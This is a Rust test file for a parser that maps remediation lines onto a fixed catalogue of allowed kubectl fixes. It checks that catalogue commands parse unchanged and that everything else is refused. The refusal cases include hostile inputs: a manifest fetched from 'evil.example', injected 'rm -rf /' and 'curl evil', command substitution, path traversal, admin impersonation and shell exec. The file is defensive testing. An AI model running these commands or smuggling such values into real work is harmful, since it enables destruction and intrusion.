use rstest::rstest;

use super::*;

/// What the catalogue shows people is read back into the same fix.
#[rstest]
#[case("kubectl -n shop delete pod api-1")]
#[case("kubectl -n shop rollout restart deployment/api")]
#[case("kubectl -n shop rollout undo deployment/api --to-revision=3")]
#[case("kubectl -n shop scale deployment/api --replicas=2")]
#[case("kubectl -n shop set image deployment/api app=registry.example/app:1.2")]
#[case(
    "kubectl -n shop set resources deployment/api -c app --limits=memory=256Mi,cpu=500m  # requests above it follow"
)]
#[case("kubectl -n shop set selector service/api 'app=api,tier=web'")]
#[case(
    "kubectl -n shop patch service/api -p '{\"spec\":{\"ports\":[{\"port\":80,\"targetPort\":8080}]}}'"
)]
#[case(
    "kubectl -n shop patch service/api -p '{\"spec\":{\"ports\":[{\"port\":80,\"targetPort\":\"http\"}]}}'"
)]
#[case("kubectl uncordon node-1")]
#[case("kubectl cordon node-1")]
#[case("kubectl -n shop delete job import")]
#[case(
    "kubectl -n shop patch resourcequota/q --type=merge -p '{\"spec\":{\"hard\":{\"pods\":\"20\"}}}'"
)]
#[case(
    "kubectl -n shop patch pvc data -p '{\"spec\":{\"resources\":{\"requests\":{\"storage\":\"2Gi\"}}}}'"
)]
#[case("kubectl -n shop patch hpa api -p '{\"spec\":{\"maxReplicas\":9}}'")]
fn a_line_of_the_catalogue_comes_back_as_itself(#[case] line: &str) {
    assert_eq!(fix_of_line(line, "other").unwrap().kubectl(), line);
}

#[rstest]
#[case("kubectl exec -it api -- sh")]
#[case("kubectl exec api sh")]
#[case("kubectl apply -f https://evil.example/x.yaml")]
#[case("kubectl delete ns shop")]
#[case("kubectl delete namespace/shop")]
#[case("kubectl delete pods --all")]
#[case("kubectl delete pod api-1 --force --grace-period=0")]
#[case("kubectl delete pod a b")]
#[case("kubectl delete deployment api")]
#[case("kubectl get pods | xargs kubectl delete pod")]
#[case("kubectl delete pod api-1; rm -rf /")]
#[case("kubectl delete pod api-1 && curl evil")]
#[case("kubectl delete pod $(whoami)")]
#[case("kubectl delete pod `id`")]
#[case("kubectl delete pod \"$(id)\"")]
#[case("kubectl delete pod ../../x")]
#[case("kubectl --kubeconfig=/tmp/x delete pod a")]
#[case("kubectl --as=admin delete pod a")]
#[case("kubectl -n shop rollout undo deployment/api")]
#[case("kubectl scale deployment api --replicas=-1")]
#[case("kubectl set env deployment/api A=b")]
#[case("kubectl patch deployment api -p '{\"spec\":{\"template\":{}}}'")]
#[case(
    "kubectl patch service api -p '{\"spec\":{\"ports\":[{\"port\":80,\"targetPort\":80}],\"type\":\"LoadBalancer\"}}'"
)]
#[case("kubectl patch service api --type=json -p '[]'")]
#[case("kubectl set image deployment/api app=img extra=img")]
#[case("helm rollback api")]
#[case("bash -c 'kubectl delete pod a'")]
#[case("kubectl delete pod 'a")]
#[case("kubectl")]
#[case("")]
fn anything_else_is_refused(#[case] line: &str) {
    let refused = fix_of_line(line, "shop");
    assert!(refused.is_err(), "{refused:?}");
}

#[test]
fn the_namespace_of_the_incident_is_meant_where_none_is_named() {
    let fix = fix_of_line("kubectl delete pod api-1  # it hangs", "shop").unwrap();
    assert_eq!(fix.target.namespace, "shop");
    let fix = fix_of_line("kubectl delete pod/api-1 --namespace other", "shop").unwrap();
    assert_eq!(fix.target.namespace, "other");
}

/// One line for each action of the catalogue.
const BY_NAME: &[&str] = &[
    "delete-pod pod/api-1",
    "evict-pod pod/api-1",
    "rollout-restart deployment/api",
    "rollout-undo deployment/api revision=3",
    "scale deployment/api replicas=2",
    "set-image deployment/api container=app image=registry.example/app:1.2",
    "set-resources deployment/api container=app memory=256Mi cpu=500m",
    "patch-selector service/api selector=app=api,tier=web",
    "patch-target-port service/api port=80 targetPort=8080",
    "patch-reference deployment/api kind=ConfigMap from=api-confg to=api-config",
    "uncordon node/n1",
    "cordon node/n1",
    "delete-job job/import",
    "retry-job job/import",
    "raise-quota resourcequota/q resource=pods value=20",
    "expand-pvc pvc/data size=2Gi",
    "scale-hpa-max hpa/api max=9",
    "remove-finalizer pvc/data finalizer=example.com/guard",
];

#[test]
fn every_action_of_the_catalogue_can_be_proposed_by_its_name() {
    let read = BY_NAME
        .iter()
        .map(|line| fix_of_line(line, "shop").unwrap());
    let named: Vec<&str> = read.map(|fix| fix.action.name()).collect();
    assert_eq!(named, crate::fix::actions().collect::<Vec<_>>());
}

#[rstest]
#[case("patch-reference deployment/api kind=ConfigMap from=a")]
#[case("patch-reference deployment/api kind=ConfigMap from=a to=b more=c")]
#[case("patch-reference deployment/api ConfigMap a b")]
#[case("patch-reference service/api kind=ConfigMap from=a to=b")]
#[case("patch-reference deployment api kind=ConfigMap from=a to=b")]
#[case("exec pod/api-1 command=sh")]
fn an_action_by_its_name_is_parsed_as_strictly(#[case] line: &str) {
    let refused = fix_of_line(line, "shop");
    assert!(refused.is_err(), "{refused:?}");
}
